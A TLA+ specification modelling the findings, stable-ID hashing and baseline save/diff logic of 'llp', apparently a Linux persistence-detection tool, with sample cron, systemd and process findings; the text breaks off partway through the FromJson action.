---------------------------- MODULE Spec2Model ----------------------------
(***************************************************************************)
(* A model of llp (Linux Less-Persistence): the Finding/Evidence data      *)
(* model (llp/core/models.py), the baseline engine (llp/core/baseline.py), *)
(* the external-command helper (llp/core/utils.py), the checks and the     *)
(* orchestrator (llp/cli.py).                                              *)
(*                                                                         *)
(* Python values whose type is only known at run time (Evidence.value, the *)
(* values of a serialized finding, whatever json.loads returns) are tagged *)
(* records [t |-> <type name>, v |-> <payload>].  Fields the dataclasses   *)
(* declare as str are plain strings.                                       *)
(***************************************************************************)
EXTENDS Integers, Sequences, FiniteSets, TLC

VARIABLES
    pc,         \* position of the scenario being run
    fa, fb,     \* two findings handed to _stable_id
    ida, idb,   \* the identifiers _stable_id returned for fa and fb
    findings,   \* the list of findings of the current run
    version,    \* the version string handed to make_baseline
    base,       \* the Baseline make_baseline returned
    text,       \* a baseline document (what to_json returns / from_json reads)
    old,        \* the Baseline from_json returned
    diff,       \* what diff_baseline returned
    selected,   \* the names given to --checks
    host,       \* the machine the checks look at
    ran,        \* the checks _run_checks has run, in order, with what each returned
    raised,     \* the exception that ended the run ("none": none)
    args,       \* the parsed command line of main
    printed,    \* what main printed
    exit_code   \* what main returned

idVars == <<fa, fb, ida, idb>>
baseVars == <<version, base, text, old, diff>>
runVars == <<selected, host, ran, raised, args, printed, exit_code>>

vars == <<pc, findings, idVars, baseVars, runVars>>

\* A variable that holds nothing yet.
Nil == [t |-> "nil"]

----------------------------------------------------------------------------
(* Python values *)

PyStr(s) == [t |-> "str", v |-> s]
PyInt(n) == [t |-> "int", v |-> n]
PyNone == [t |-> "None"]
PyList(xs) == [t |-> "list", v |-> xs]
PyDict(d) == [t |-> "dict", v |-> d]

\* The empty dict {} (a function with no keys).
EmptyDict == PyDict(<<>>)

\* d[k] = v on a dict's key -> value function.
DictSet(d, k, v) == [x \in (DOMAIN d) \cup {k} |-> IF x = k THEN v ELSE d[x]]

\* o.get(k): the value under k, None when the key is absent.
DictGet(o, k) == IF k \in DOMAIN o.v THEN o.v[k] ELSE PyNone

\* o.get(k, default)
DictGetOr(o, k, default) == IF k \in DOMAIN o.v THEN o.v[k] ELSE default

\* The strings of the program that hold an apostrophe (and no double quote):
\* repr() puts them in double quotes.
Apostrophed == {"Cron content references 'base64'; verify intent and source."}

\* repr() of a list element; str() of a value.  A list prints as
\* "[" + ", ".join(repr(x)) + "]", a string inside it in single quotes.
RECURSIVE JoinRepr(_)
Repr(x) ==
    CASE x.t = "str" -> IF x.v \in Apostrophed
                        THEN "\"" \o x.v \o "\""
                        ELSE "'" \o x.v \o "'"
      [] x.t = "int" -> ToString(x.v)
      [] x.t = "None" -> "None"
      [] x.t = "list" -> "[" \o JoinRepr(x.v) \o "]"

JoinRepr(xs) ==
    IF xs = <<>> THEN ""
    ELSE IF Len(xs) = 1 THEN Repr(xs[1])
    ELSE Repr(xs[1]) \o ", " \o JoinRepr(Tail(xs))

Str(x) == IF x.t = "str" THEN x.v ELSE Repr(x)

----------------------------------------------------------------------------
(* llp/core/models.py *)

Evidence(source, key, value) == [source |-> source, key |-> key, value |-> value]

Finding(check_id, title, severity, description, evidence, remediation, references) ==
    [check_id |-> check_id, title |-> title, severity |-> severity,
     description |-> description, evidence |-> evidence,
     remediation |-> remediation, references |-> references]

\* e.__dict__
EvidenceDict(e) ==
    PyDict([source |-> PyStr(e.source), key |-> PyStr(e.key), value |-> e.value])

\* Finding.to_dict
to_dict(f) ==
    PyDict([check_id |-> PyStr(f.check_id),
            title |-> PyStr(f.title),
            severity |-> PyStr(f.severity),
            description |-> PyStr(f.description),
            evidence |-> PyList([i \in 1..Len(f.evidence) |-> EvidenceDict(f.evidence[i])]),
            remediation |-> f.remediation,
            references |-> PyList([i \in 1..Len(f.references) |-> PyStr(f.references[i])])])

----------------------------------------------------------------------------
(* llp/core/baseline.py *)

\* hashlib.sha256(raw.encode("utf-8")).hexdigest()[:16], as the sequence of its 16
\* hexadecimal digits (0..15).  The digests are SHA-256's own values for every
\* pre-hash string the model can form; the comment gives the hexadecimal text.
Sha256Hex16(raw) ==
    CASE raw = "cron.artifacts|/etc/crontab" ->  \* 435def84fdddd872
           <<4, 3, 5, 13, 14, 15, 8, 4, 15, 13, 13, 13, 13, 8, 7, 2>>
      [] raw = "cron.artifacts|7" ->  \* 830b3a602fec29e0
           <<8, 3, 0, 11, 3, 10, 6, 0, 2, 15, 14, 12, 2, 9, 14, 0>>
      [] raw = "cron.artifacts|Cron artifacts" ->  \* 37708c293f895b87
           <<3, 7, 7, 0, 8, 12, 2, 9, 3, 15, 8, 9, 5, 11, 8, 7>>
      [] raw = "cron.artifacts|Review cron artifact: /etc/crontab" ->  \* a1f385c455947474
           <<10, 1, 15, 3, 8, 5, 12, 4, 5, 5, 9, 4, 7, 4, 7, 4>>
      [] raw = "cron.artifacts|Review runtime process: PID 7" ->  \* f9b34d0aae20c72d
           <<15, 9, 11, 3, 4, 13, 0, 10, 10, 14, 2, 0, 12, 7, 2, 13>>
      [] raw = "cron.artifacts|Review cron artifact (unreadable/large): /etc/crontab" ->  \* c58b8ea15c4bca95
           <<12, 5, 8, 11, 8, 14, 10, 1, 5, 12, 4, 11, 12, 10, 9, 5>>
      [] raw = "cron.artifacts|/etc/systemd/system/backup.service" ->  \* 9feb2b094b97cc0c
           <<9, 15, 14, 11, 2, 11, 0, 9, 4, 11, 9, 7, 12, 12, 0, 12>>
      [] raw = "cron.artifacts|Review systemd service: backup.service (system)" ->  \* a872d400b46fe505
           <<10, 8, 7, 2, 13, 4, 0, 0, 11, 4, 6, 15, 14, 5, 0, 5>>
      [] raw = "systemd.units|/etc/crontab" ->  \* 2752bc4f4697c97d
           <<2, 7, 5, 2, 11, 12, 4, 15, 4, 6, 9, 7, 12, 9, 7, 13>>
      [] raw = "systemd.units|7" ->  \* ab09526feae82b07
           <<10, 11, 0, 9, 5, 2, 6, 15, 14, 10, 14, 8, 2, 11, 0, 7>>
      [] raw = "systemd.units|Cron artifacts" ->  \* 7be2bd2671084259
           <<7, 11, 14, 2, 11, 13, 2, 6, 7, 1, 0, 8, 4, 2, 5, 9>>
      [] raw = "systemd.units|Review cron artifact: /etc/crontab" ->  \* 68a91f1cd182f526
           <<6, 8, 10, 9, 1, 15, 1, 12, 13, 1, 8, 2, 15, 5, 2, 6>>
      [] raw = "systemd.units|Review runtime process: PID 7" ->  \* bf7a821fc6a1c749
           <<11, 15, 7, 10, 8, 2, 1, 15, 12, 6, 10, 1, 12, 7, 4, 9>>
      [] raw = "systemd.units|Review cron artifact (unreadable/large): /etc/crontab" ->  \* 0be3b9e1a3351148
           <<0, 11, 14, 3, 11, 9, 14, 1, 10, 3, 3, 5, 1, 1, 4, 8>>
      [] raw = "systemd.units|/etc/systemd/system/backup.service" ->  \* 698097c8ff47bce9
           <<6, 9, 8, 0, 9, 7, 12, 8, 15, 15, 4, 7, 11, 12, 14, 9>>
      [] raw = "systemd.units|Review systemd service: backup.service (system)" ->  \* e238408fff18f459
           <<14, 2, 3, 8, 4, 0, 8, 15, 15, 15, 1, 8, 15, 4, 5, 9>>
      [] raw = "runtime.process|/etc/crontab" ->  \* bde76c184125c0f3
           <<11, 13, 14, 7, 6, 12, 1, 8, 4, 1, 2, 5, 12, 0, 15, 3>>
      [] raw = "runtime.process|7" ->  \* 9a63ded7f3f64b16
           <<9, 10, 6, 3, 13, 14, 13, 7, 15, 3, 15, 6, 4, 11, 1, 6>>
      [] raw = "runtime.process|Cron artifacts" ->  \* 9fbe27535fbae797
           <<9, 15, 11, 14, 2, 7, 5, 3, 5, 15, 11, 10, 14, 7, 9, 7>>
      [] raw = "runtime.process|Review cron artifact: /etc/crontab" ->  \* 9e6e22f28fb86b86
           <<9, 14, 6, 14, 2, 2, 15, 2, 8, 15, 11, 8, 6, 11, 8, 6>>
      [] raw = "runtime.process|Review runtime process: PID 7" ->  \* 0bb6f1715648b0df
           <<0, 11, 11, 6, 15, 1, 7, 1, 5, 6, 4, 8, 11, 0, 13, 15>>
      [] raw = "runtime.process|Review cron artifact (unreadable/large): /etc/crontab" ->  \* 463e0e8b4fd071a1
           <<4, 6, 3, 14, 0, 14, 8, 11, 4, 15, 13, 0, 7, 1, 10, 1>>
      [] raw = "runtime.process|/etc/systemd/system/backup.service" ->  \* 77c37984c8e55225
           <<7, 7, 12, 3, 7, 9, 8, 4, 12, 8, 14, 5, 5, 2, 2, 5>>
      [] raw = "runtime.process|Review systemd service: backup.service (system)" ->  \* afb155df448f3660
           <<10, 15, 11, 1, 5, 5, 13, 15, 4, 4, 8, 15, 3, 6, 6, 0>>
      [] raw = "|/etc/crontab" ->  \* e3a91da8474a4936
           <<14, 3, 10, 9, 1, 13, 10, 8, 4, 7, 4, 10, 4, 9, 3, 6>>
      [] raw = "|7" ->  \* e9d8e88334820666
           <<14, 9, 13, 8, 14, 8, 8, 3, 3, 4, 8, 2, 0, 6, 6, 6>>
      [] raw = "|Cron artifacts" ->  \* df05580b5aaccda5
           <<13, 15, 0, 5, 5, 8, 0, 11, 5, 10, 10, 12, 12, 13, 10, 5>>
      [] raw = "|Review cron artifact: /etc/crontab" ->  \* 190a3103027f1e5b
           <<1, 9, 0, 10, 3, 1, 0, 3, 0, 2, 7, 15, 1, 14, 5, 11>>
      [] raw = "|Review runtime process: PID 7" ->  \* c898f94da4f3d57b
           <<12, 8, 9, 8, 15, 9, 4, 13, 10, 4, 15, 3, 13, 5, 7, 11>>
      [] raw = "|Review cron artifact (unreadable/large): /etc/crontab" ->  \* e870d04d5ffde6c5
           <<14, 8, 7, 0, 13, 0, 4, 13, 5, 15, 15, 13, 14, 6, 12, 5>>
      [] raw = "|/etc/systemd/system/backup.service" ->  \* 61ec23df6f3212f2
           <<6, 1, 14, 12, 2, 3, 13, 15, 6, 15, 3, 2, 1, 2, 15, 2>>
      [] raw = "|Review systemd service: backup.service (system)" ->  \* dde4bc02246a379a
           <<13, 13, 14, 4, 11, 12, 0, 2, 2, 4, 6, 10, 3, 7, 9, 10>>
      [] raw = "systemd.units|/lib/systemd/system/rsyslog.service" ->  \* 158405ba866202df
           <<1, 5, 8, 4, 0, 5, 11, 10, 8, 6, 6, 2, 0, 2, 13, 15>>
      [] raw = "systemd.units|/home/u/.config/systemd/user/sync.service" ->  \* ddf8f1c709ec993d
           <<13, 13, 15, 8, 15, 1, 12, 7, 0, 9, 14, 12, 9, 9, 3, 13>>
      [] raw = "systemd.units|Review systemd service: rsyslog.service (system)" ->  \* 560fab23c4ca7e1e
           <<5, 6, 0, 15, 10, 11, 2, 3, 12, 4, 12, 10, 7, 14, 1, 14>>
      [] raw = "systemd.units|Review systemd service: syslog.service (system)" ->  \* 6d719f18516baacf
           <<6, 13, 7, 1, 9, 15, 1, 8, 5, 1, 6, 11, 10, 10, 12, 15>>
      [] raw = "systemd.units|Review systemd service: ghost.service (system)" ->  \* 24390df0620256f9
           <<2, 4, 3, 9, 0, 13, 15, 0, 6, 2, 0, 2, 5, 6, 15, 9>>
      [] raw = "systemd.units|Review systemd service: sync.service (user)" ->  \* 7c51f069219c8661
           <<7, 12, 5, 1, 15, 0, 6, 9, 2, 1, 9, 12, 8, 6, 6, 1>>
      [] raw = "cron.artifacts|/etc/cron.d/fetch" ->  \* ef59a065c25cac4f
           <<14, 15, 5, 9, 10, 0, 6, 5, 12, 2, 5, 12, 10, 12, 4, 15>>
      [] raw = "cron.artifacts|/etc/cron.d/locked" ->  \* b861bffba0e214b9
           <<11, 8, 6, 1, 11, 15, 15, 11, 10, 0, 14, 2, 1, 4, 11, 9>>
      [] raw = "cron.artifacts|/var/spool/cron/crontabs/u" ->  \* 122ad0397849b8ca
           <<1, 2, 2, 10, 13, 0, 3, 9, 7, 8, 4, 9, 11, 8, 12, 10>>
      [] raw = "shell.init|/home/u/.profile" ->  \* 090598ce86c6c884
           <<0, 9, 0, 5, 9, 8, 12, 14, 8, 6, 12, 6, 12, 8, 8, 4>>
      [] raw = "shell.init|/home/u/.bashrc" ->  \* 0c3d066c67f6a9ce
           <<0, 12, 3, 13, 0, 6, 6, 12, 6, 7, 15, 6, 10, 9, 12, 14>>
      [] raw = "xdg.autostart|/home/u/.config/autostart/updater.desktop" ->  \* ec628b9efaa09064
           <<14, 12, 6, 2, 8, 11, 9, 14, 15, 10, 10, 0, 9, 0, 6, 4>>
      [] raw = "xdg.autostart|/etc/xdg/autostart/print-applet.desktop" ->  \* 3928c5f6cb4ec44a
           <<3, 9, 2, 8, 12, 5, 15, 6, 12, 11, 4, 14, 12, 4, 4, 10>>
      [] raw = "runtime.process|Review runtime process: PID 1" ->  \* af6e186ae90c43c7
           <<10, 15, 6, 14, 1, 8, 6, 10, 14, 9, 0, 12, 4, 3, 12, 7>>
      [] raw = "runtime.process|Review runtime process: PID 8" ->  \* 7bca25404a33b69b
           <<7, 11, 12, 10, 2, 5, 4, 0, 4, 10, 3, 3, 11, 6, 9, 11>>
      [] raw = "runtime.process|Review runtime process: PID 9" ->  \* bea9a69da75a3770
           <<11, 14, 10, 9, 10, 6, 9, 13, 10, 7, 5, 10, 3, 7, 7, 0>>
      [] raw = "runtime.process|Review runtime process: PID 12" ->  \* 653a616040ffd871
           <<6, 5, 3, 10, 6, 1, 6, 0, 4, 0, 15, 15, 13, 8, 7, 1>>


\* a < b on two strings of hexadecimal digits (Python compares strings
\* lexicographically; the digits' code points are in the order of their values).
StrLess(a, b) ==
    \/ \E i \in 1..Len(a) :
          /\ i <= Len(b)
          /\ a[i] < b[i]
          /\ \A j \in 1..(i - 1) : a[j] = b[j]
    \/ /\ Len(a) < Len(b)
       /\ \A j \in 1..Len(a) : a[j] = b[j]

\* sorted(S) on a set of identifier strings
RECURSIVE sorted(_)
sorted(S) ==
    IF S = {} THEN <<>>
    ELSE LET m == CHOOSE x \in S : \A y \in S : x = y \/ StrLess(x, y)
         IN  <<m>> \o sorted(S \ {m})

AnchorKeys == {"FragmentPath", "path"}

\* The loop of _stable_id: str(e.value) of every evidence entry with an anchor key,
\* in evidence order.
RECURSIVE Anchors(_)
Anchors(evidence) ==
    IF evidence = <<>> THEN <<>>
    ELSE LET e == Head(evidence)
         IN  (IF e.key \in AnchorKeys THEN <<Str(e.value)>> ELSE <<>>)
                 \o Anchors(Tail(evidence))

Anchor_titleOnly(f) == f.title

Anchor_last(f) ==
    LET anchors == Anchors(f.evidence)
    IN  IF anchors # <<>> THEN anchors[Len(anchors)] ELSE f.title

\* anchor = anchors[0] if anchors else f.title
Anchor(f) ==
    LET anchors == Anchors(f.evidence)
    IN  IF anchors # <<>> THEN anchors[1] ELSE f.title

Raw_noCheckId(f) == "|" \o Anchor(f)

\* raw = f"{f.check_id}|{anchor}"
Raw(f) == f.check_id \o "|" \o Anchor(f)

_stable_id(f) == Sha256Hex16(Raw(f))

Baseline(v, fs) == [version |-> v, findings |-> fs]

\* json.dumps: the JSON document a Python value is written as.  Python's str, int,
\* None, list and dict become a JSON string, number, null, array and object.
RECURSIVE json_dumps(_)
json_dumps(x) ==
    CASE x.t = "str" -> [j |-> "string", v |-> x.v]
      [] x.t = "int" -> [j |-> "number", v |-> x.v]
      [] x.t = "None" -> [j |-> "null"]
      [] x.t = "list" -> [j |-> "array", v |-> [i \in 1..Len(x.v) |-> json_dumps(x.v[i])]]
      [] x.t = "dict" -> [j |-> "object", v |-> [k \in DOMAIN x.v |-> json_dumps(x.v[k])]]

\* json.loads: the Python value a JSON document is read as.
RECURSIVE json_loads(_)
json_loads(d) ==
    CASE d.j = "string" -> PyStr(d.v)
      [] d.j = "number" -> PyInt(d.v)
      [] d.j = "null" -> PyNone
      [] d.j = "array" -> PyList([i \in 1..Len(d.v) |-> json_loads(d.v[i])])
      [] d.j = "object" -> PyDict([k \in DOMAIN d.v |-> json_loads(d.v[k])])

to_json_noVersion(b) == json_dumps(PyDict([findings |-> b.findings]))

\* Baseline.to_json
to_json(b) == json_dumps(PyDict([version |-> b.version, findings |-> b.findings]))

from_json_defaults(doc) ==
    LET obj == json_loads(doc)
    IN  Baseline(DictGetOr(obj, "version", PyStr("0.1.0")),
                 DictGetOr(obj, "findings", PyNone))

\* Baseline.from_json
from_json(doc) ==
    LET obj == json_loads(doc)
    IN  Baseline(DictGetOr(obj, "version", PyStr("unknown")),
                 DictGetOr(obj, "findings", EmptyDict))

\* The loop of make_baseline: mapped[fid] = f.to_dict() for each finding in turn.
RECURSIVE Mapped(_, _)
Mapped(fs, mapped) ==
    IF fs = <<>> THEN mapped
    ELSE LET f == Head(fs)
             fid == _stable_id(f)
         IN  Mapped(Tail(fs), DictSet(mapped, fid, to_dict(f)))

RECURSIVE MappedFirstWins(_, _)
MappedFirstWins(fs, mapped) ==
    IF fs = <<>> THEN mapped
    ELSE LET f == Head(fs)
             fid == _stable_id(f)
         IN  MappedFirstWins(Tail(fs),
                 IF fid \in DOMAIN mapped THEN mapped ELSE DictSet(mapped, fid, to_dict(f)))

make_baseline_firstWins(fs, v) == Baseline(v, PyDict(MappedFirstWins(fs, <<>>)))

make_baseline(fs, v) == Baseline(v, PyDict(Mapped(fs, <<>>)))

RECURSIVE ChangedWhole(_, _, _)
ChangedWhole(ids, oldf, newf) ==
    IF ids = <<>> THEN <<>>
    ELSE LET i == Head(ids)
             o == oldf[i]
             n == newf[i]
         IN  (IF o # n THEN <<[id |-> i, old |-> o, new |-> n]>> ELSE <<>>)
                 \o ChangedWhole(Tail(ids), oldf, newf)

\* The loop over sorted(old_ids & new_ids) of diff_baseline.
RECURSIVE Changed(_, _, _)
Changed(ids, oldf, newf) ==
    IF ids = <<>> THEN <<>>
    ELSE LET i == Head(ids)
             o == oldf[i]
             n == newf[i]
         IN  (IF DictGet(o, "severity") # DictGet(n, "severity")
                 \/ DictGet(o, "description") # DictGet(n, "description")
              THEN <<[id |-> i, old |-> o, new |-> n]>>
              ELSE <<>>) \o Changed(Tail(ids), oldf, newf)

Added_all(oldf, newf) ==
    LET ids == sorted(DOMAIN newf)
    IN  [k \in 1..Len(ids) |-> newf[ids[k]]]

\* added = [new_base.findings[i] for i in sorted(new_ids - old_ids)]
Added(oldf, newf) ==
    LET ids == sorted((DOMAIN newf) \ (DOMAIN oldf))
    IN  [k \in 1..Len(ids) |-> newf[ids[k]]]

Removed_descending(oldf, newf) ==
    LET ids == sorted((DOMAIN oldf) \ (DOMAIN newf))
    IN  [k \in 1..Len(ids) |-> oldf[ids[Len(ids) + 1 - k]]]

\* removed = [old.findings[i] for i in sorted(old_ids - new_ids)]
Removed(oldf, newf) ==
    LET ids == sorted((DOMAIN oldf) \ (DOMAIN newf))
    IN  [k \in 1..Len(ids) |-> oldf[ids[k]]]

\* diff_baseline: added / removed / changed findings compared to the baseline.
diff_baseline(oldb, new_findings) ==
    LET new_base == make_baseline(new_findings, oldb.version)
        oldf == oldb.findings.v
        newf == new_base.findings.v
    IN  [added |-> Added(oldf, newf),
         removed |-> Removed(oldf, newf),
         changed |-> Changed(sorted((DOMAIN oldf) \cap (DOMAIN newf)), oldf, newf)]

----------------------------------------------------------------------------
(* Inputs *)

\* The longest evidence list of a finding handed to _stable_id.
MaxEvidence == 2

IdCheckIds == {"cron.artifacts", "systemd.units"}

\* A title may itself be a path (it is free text), or the title cron.run gives its
\* "no artifacts" finding.
IdTitles == {"/etc/crontab", "Cron artifacts"}

\* Evidence entries: an anchor under each of the two anchor keys, an anchor whose
\* value is not a string, and an entry that is no anchor.
EvidencePool ==
    {Evidence("filesystem", "path", PyStr("/etc/crontab")),
     Evidence("systemctl", "FragmentPath", PyStr("/etc/crontab")),
     Evidence("procfs", "path", PyInt(7)),
     Evidence("filesystem", "kind", PyStr("file"))}

EvidenceLists == UNION {[1..k -> EvidencePool] : k \in 0..MaxEvidence}

\* severity, description, remediation and references of a finding.
Texts ==
    {[severity |-> "info", description |-> "No cron artifacts were found.",
      remediation |-> PyNone, references |-> <<>>],
     [severity |-> "medium", description |-> "No cron artifacts were found.",
      remediation |-> PyNone, references |-> <<>>],
     [severity |-> "info", description |-> "Heuristic indicators suggest review.",
      remediation |-> PyStr("Verify service origin."), references |-> <<"man:crontab(5)">>]}

IdFindings ==
    {Finding(c, t, x.severity, x.description, ev, x.remediation, x.references) :
        c \in IdCheckIds, t \in IdTitles, x \in Texts, ev \in EvidenceLists}

----------------------------------------------------------------------------
(* Two findings handed to _stable_id *)

IdInit ==
    /\ pc = "id_input"
    /\ fa \in IdFindings
    /\ fb \in IdFindings
    /\ ida = Nil
    /\ idb = Nil
    /\ findings = <<>>
    /\ version = Nil
    /\ base = Nil
    /\ text = Nil
    /\ old = Nil
    /\ diff = Nil
    /\ selected = Nil
    /\ host = Nil
    /\ ran = <<>>
    /\ raised = "none"
    /\ args = Nil
    /\ printed = Nil
    /\ exit_code = Nil

StableIds ==
    /\ pc = "id_input"
    /\ ida' = _stable_id(fa)
    /\ idb' = _stable_id(fb)
    /\ pc' = "id_done"
    /\ UNCHANGED <<fa, fb, findings, version, base, text, old, diff, runVars>>

IdNext == StableIds

SpecId == IdInit /\ [][IdNext]_vars

----------------------------------------------------------------------------
(* Claims about _stable_id *)

\* The anchor as the documentation states it: the string form of the value of the
\* first evidence entry keyed 'FragmentPath' or 'path', else the title.
HasAnchorEvidence(f) ==
    \E i \in 1..Len(f.evidence) : f.evidence[i].key \in {"FragmentPath", "path"}

FirstAnchorIndex(f) ==
    CHOOSE i \in 1..Len(f.evidence) :
        /\ f.evidence[i].key \in {"FragmentPath", "path"}
        /\ \A j \in 1..(i - 1) : f.evidence[j].key \notin {"FragmentPath", "path"}

ExpectedAnchor(f) ==
    IF HasAnchorEvidence(f) THEN Str(f.evidence[FirstAnchorIndex(f)].value) ELSE f.title

\* C2: two findings with equal check_id and equal anchor get the same identifier,
\* whatever their severity, description, remediation, references, other evidence
\* and (when an anchor evidence exists) title.
C2_IdDependsOnlyOnCheckIdAndAnchor ==
    (/\ pc = "id_done"
     /\ fa.check_id = fb.check_id
     /\ ExpectedAnchor(fa) = ExpectedAnchor(fb))
        => ida = idb

C2_Witness ==
    /\ pc = "id_done"
    /\ fa.check_id = fb.check_id
    /\ ExpectedAnchor(fa) = ExpectedAnchor(fb)
    /\ HasAnchorEvidence(fa)
    /\ fa.title # fb.title
    /\ fa.severity # fb.severity
    /\ fa.remediation # fb.remediation
    /\ fa.evidence # fb.evidence
    /\ ida = idb

\* C3: the identifier is the digest of check_id, "|" and the string form of the
\* first anchor-keyed evidence value (the title only when there is none), and the
\* keys 'path' and 'FragmentPath' are interchangeable.
C3_AnchorPrecedence ==
    pc = "id_done" =>
        /\ ida = Sha256Hex16(fa.check_id \o "|" \o ExpectedAnchor(fa))
        /\ (/\ fa.check_id = fb.check_id
            /\ HasAnchorEvidence(fa)
            /\ HasAnchorEvidence(fb)
            /\ fa.evidence[FirstAnchorIndex(fa)].value = fb.evidence[FirstAnchorIndex(fb)].value)
                => ida = idb
        /\ (~HasAnchorEvidence(fa)) => ida = Sha256Hex16(fa.check_id \o "|" \o fa.title)

C3_Witness ==
    /\ pc = "id_done"
    /\ Len(fa.evidence) = 2
    /\ fa.evidence[1].key = "FragmentPath"
    /\ fa.evidence[2].key = "path"
    /\ fa.evidence[1].value # fa.evidence[2].value
    /\ fb.check_id = fa.check_id
    /\ Len(fb.evidence) = 2
    /\ fb.evidence[1].key = "kind"
    /\ fb.evidence[2].key = "path"
    /\ fb.evidence[2].value = fa.evidence[1].value
    /\ ida = idb

\* C4: two findings with the same anchor string and different check_id have
\* different pre-hash strings and different identifiers.
C4_CollisionIndependence ==
    (/\ pc = "id_done"
     /\ ExpectedAnchor(fa) = ExpectedAnchor(fb)
     /\ fa.check_id # fb.check_id)
        => /\ (fa.check_id \o "|" \o ExpectedAnchor(fa))
                 # (fb.check_id \o "|" \o ExpectedAnchor(fb))
           /\ ida # idb

C4_Witness ==
    /\ pc = "id_done"
    /\ ExpectedAnchor(fa) = ExpectedAnchor(fb)
    /\ fa.check_id # fb.check_id
    /\ HasAnchorEvidence(fa)
    /\ ~HasAnchorEvidence(fb)

----------------------------------------------------------------------------
(* Inputs of the baseline engine *)

\* The most findings one run hands to make_baseline or diff_baseline.
MaxFindings == 3

Versions == {"0.1.0", "0.2.0"}

CronDescription ==
    "Module 2 checks cron-related locations for entries that deserve review."

CronRemediation == PyStr("Confirm the artifact's purpose and provenance.")

\* cron.run's finding for /etc/crontab with no heuristic flag.
CronFinding ==
    Finding("cron.artifacts", "Review cron artifact: /etc/crontab", "info",
            CronDescription,
            <<Evidence("filesystem", "path", PyStr("/etc/crontab")),
              Evidence("filesystem", "kind", PyStr("file")),
              Evidence("filesystem", "owner", PyNone)>>,
            CronRemediation, <<>>)

\* The same artifact once its content is flagged: the severity is raised and a
\* flags entry is added to the evidence.
CronFindingFlagged ==
    Finding("cron.artifacts", "Review cron artifact: /etc/crontab", "medium",
            CronDescription,
            <<Evidence("filesystem", "path", PyStr("/etc/crontab")),
              Evidence("filesystem", "kind", PyStr("file")),
              Evidence("filesystem", "owner", PyNone),
              Evidence("heuristics", "flags", PyList(<<PyStr("Cron content includes URL(s)")>>))>>,
            CronRemediation, <<>>)

\* The same artifact when it cannot be read: another description and title.
CronFindingUnreadable ==
    Finding("cron.artifacts", "Review cron artifact (unreadable/large): /etc/crontab", "info",
            "Cron artifact exists but could not be read (permission, binary, or too large).",
            <<Evidence("filesystem", "path", PyStr("/etc/crontab")),
              Evidence("filesystem", "kind", PyStr("file")),
              Evidence("filesystem", "owner", PyNone)>>,
            PyStr("Verify permissions and inspect the file contents."), <<>>)

\* The same artifact with only its title, evidence, remediation and references
\* changed.
CronFindingReworded ==
    Finding("cron.artifacts", "Cron artifacts", "info",
            CronDescription,
            <<Evidence("filesystem", "kind", PyStr("file")),
              Evidence("systemctl", "FragmentPath", PyStr("/etc/crontab")),
              Evidence("filesystem", "owner", PyStr("root"))>>,
            PyNone, <<"man:crontab(5)">>)

\* cron.run's finding when no artifact exists: no evidence at all.
CronFindingNone ==
    Finding("cron.artifacts", "Cron artifacts", "info",
            "No cron artifacts were found in common locations, or access was restricted.",
            <<>>, PyNone, <<>>)

SystemdFinding ==
    Finding("systemd.units", "Review systemd service: backup.service (system)", "medium",
            "Heuristic indicators suggest review. This is not a determination of compromise.",
            <<Evidence("systemctl", "unit", PyStr("backup.service")),
              Evidence("systemctl", "scope", PyStr("system")),
              Evidence("systemctl", "FragmentPath", PyStr("/etc/systemd/system/backup.service"))>>,
            PyStr("Verify service origin, overrides, and ExecStart paths."), <<>>)

RuntimeFinding ==
    Finding("runtime.process", "Review runtime process: PID 7", "high",
            "Process executable path suggests runtime-only or memory-backed execution.",
            <<Evidence("procfs", "pid", PyInt(7)),
              Evidence("procfs", "exe", PyStr("/tmp/x"))>>,
            PyStr("Verify process legitimacy and parent chain."), <<>>)

BaselinePool ==
    {CronFinding, CronFindingFlagged, CronFindingUnreadable, CronFindingReworded,
     CronFindingNone, SystemdFinding, RuntimeFinding}

\* Baseline documents that make_baseline did not write: parsable JSON of any shape.
JString(s) == [j |-> "string", v |-> s]
JNumber(n) == [j |-> "number", v |-> n]
JNull == [j |-> "null"]
JArray(xs) == [j |-> "array", v |-> xs]
JObject(members) == [j |-> "object", v |-> members]

\* An entry written by an earlier schema: no description, no evidence.
StaleEntry == JObject([check_id |-> JString("cron.artifacts"), severity |-> JString("info")])

\* An entry written by a later schema: a field this version does not know.
ExtendedEntry ==
    JObject([check_id |-> JString("systemd.units"), severity |-> JString("low"),
             description |-> JString("Heuristic indicators suggest review. This is not a determination of compromise."),
             first_seen |-> JNumber(1700000000)])

ExternalDocs ==
    {JObject(<<>>),
     JObject([version |-> JString("0.0.9")]),
     JObject([findings |-> JObject(<<>>)]),
     JObject([version |-> JNull,
              findings |-> JObject(_stable_id(CronFinding) :> StaleEntry
                                   @@ _stable_id(SystemdFinding) :> ExtendedEntry)]),
     JObject([version |-> JNumber(3), findings |-> JArray(<<>>), generator |-> JString("llp")]),
     JArray(<<>>)}

----------------------------------------------------------------------------
(* The baseline engine at work: a run's findings are made into a baseline, the
   baseline is written and read back, and a later run is compared to it. *)

BaseInit ==
    /\ pc = "collect"
    /\ fa = Nil
    /\ fb = Nil
    /\ ida = Nil
    /\ idb = Nil
    /\ findings = <<>>
    /\ version = Nil
    /\ base = Nil
    /\ text = Nil
    /\ old = Nil
    /\ diff = Nil
    /\ selected = Nil
    /\ host = Nil
    /\ ran = <<>>
    /\ raised = "none"
    /\ args = Nil
    /\ printed = Nil
    /\ exit_code = Nil

\* A check appends a finding to the run's list.
AddFinding(f) ==
    /\ pc \in {"collect", "loaded"}
    /\ Len(findings) < MaxFindings
    /\ findings' = Append(findings, f)
    /\ UNCHANGED <<pc, fa, fb, ida, idb, version, base, text, old, diff, runVars>>

MakeBaseline(v) ==
    /\ pc = "collect"
    /\ version' = v
    /\ base' = make_baseline(findings, PyStr(v))
    /\ pc' = "built"
    /\ UNCHANGED <<fa, fb, ida, idb, findings, text, old, diff, runVars>>

\* diff_baseline(make_baseline(F, v), F)
DiffSelf ==
    /\ pc = "built"
    /\ diff' = diff_baseline(base, findings)
    /\ pc' = "diffed_self"
    /\ UNCHANGED <<fa, fb, ida, idb, findings, version, base, text, old, runVars>>

ToJson ==
    /\ pc = "built"
    /\ text' = to_json(base)
    /\ pc' = "written"
    /\ UNCHANGED <<fa, fb, ida, idb, findings, version, base, old, diff, runVars>>

\* The baseline file was written by something else.
WriteExternal(doc) ==
    /\ pc = "collect"
    /\ findings = <<>>
    /\ text' = doc
    /\ pc' = "written"
    /\ UNCHANGED <<fa, fb, ida, idb, findings, version, base, old, diff, runVars>>

\* Baseline.from_json at the start of a later run.  obj.get raises AttributeError
\* when the document is not a JSON object.
FromJson ==
    /\ pc = "written"
